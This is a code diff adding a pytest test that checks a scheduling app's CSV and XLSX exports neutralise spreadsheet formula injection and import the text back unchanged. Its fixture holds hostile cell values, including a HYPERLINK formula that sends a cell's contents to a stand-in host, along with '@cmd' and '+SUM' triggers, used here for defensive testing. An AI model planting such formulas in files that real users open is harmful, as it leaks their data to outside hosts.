@@ -77,6 +77,67 @@ def test_an_export_imports_back_into_another_practice(
         other.close()
 
 
+HOSTILE = {
+    "name": '=HYPERLINK("http://example.invalid/?d="&C2,"Ana")',
+    "service": "+SUM(1)",
+    "notes": "@cmd",
+    "staff": "-2+3",
+}
+
+
+@pytest.mark.parametrize("fmt", [exports.Format.CSV, exports.Format.XLSX])
+def test_text_from_outside_never_becomes_a_formula_and_comes_back_as_it_was(
+        practice: Practice, tmp_path: Path, fmt: exports.Format) -> None:
+    """OWASP's CSV injection, in every text cell of both exports; numbers and dates
+    stay numbers and dates; importing the file back gives the same text."""
+    import zipfile
+
+    from app.services import catalog
+
+    service = catalog.add_service(practice, name=HOSTILE["service"], duration_minutes=50).id
+    staff = catalog.add_staff(practice, name=HOSTILE["staff"]).id
+    client = clients.add(practice, name=HOSTILE["name"], phone="+1 415 555 0100",
+                         email="ana@example.com").id
+    for start, notes in (("2026-11-23T10:00", HOSTILE["notes"]), ("2026-11-24T10:00", "=2*3"),
+                         ("2026-11-25T10:00", "'=already quoted"), ("2026-11-26T10:00",
+                                                                    "\tTAB")):
+        scheduling.book(practice, BookingRequest(client_id=client, start=local(start),
+                                                 service_id=service, staff_id=staff,
+                                                 notes=notes))
+    path = tmp_path / f"sessions.{fmt.value}"
+    exports.write(practice, fmt, path, exports.sessions(practice, NOV, DEC))
+    if fmt is exports.Format.CSV:
+        import csv
+
+        rows = list(csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=","))
+        for row in rows[1:]:
+            texts = [row[i] for i in (1, 2, 4, 8, 11)]  # name, phone, service, staff, notes
+            assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts), row
+        assert rows[1][1] == "'" + HOSTILE["name"] and rows[1][2] == "'+1 415-555-0100"
+    else:
+        with zipfile.ZipFile(path) as book:
+            xml = book.read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in xml and "HYPERLINK" in xml
+        sheet = openpyxl.load_workbook(path).worksheets[0]
+        first = [c.value for c in sheet[2]]
+        assert first[1] == HOSTILE["name"] and first[5] == datetime(2026, 11, 23)
+        assert isinstance(first[7], int) and isinstance(first[10], (int, float))  # numbers
+    other = open_practice(tmp_path / "other", clock=practice.clock, logging_on=False)
+    try:
+        report = importing.import_file(other, path)
+        assert report.imported == 4, [r.reason for r in report.rows]
+        back = queries.list_appointments(other, start=NOV, end=DEC)
+        assert {v.client_name for v in back} == {HOSTILE["name"]}
+        assert {v.service_name for v in back} == {HOSTILE["service"]}
+        assert {v.staff_name for v in back} == {HOSTILE["staff"]}
+        assert sorted(v.notes for v in back) == sorted(  # as written, blanks aside
+            (v.notes or "").strip() for v in queries.list_appointments(practice, start=NOV,
+                                                                        end=DEC))
+        assert "'=already quoted" in {v.notes for v in back}
+    finally:
+        other.close()
+
+
 def test_a_csv_for_brazilian_excel(practice: Practice, agenda: dict[str, int],
                                    tmp_path: Path) -> None:
     i18n.set_language("pt_BR")
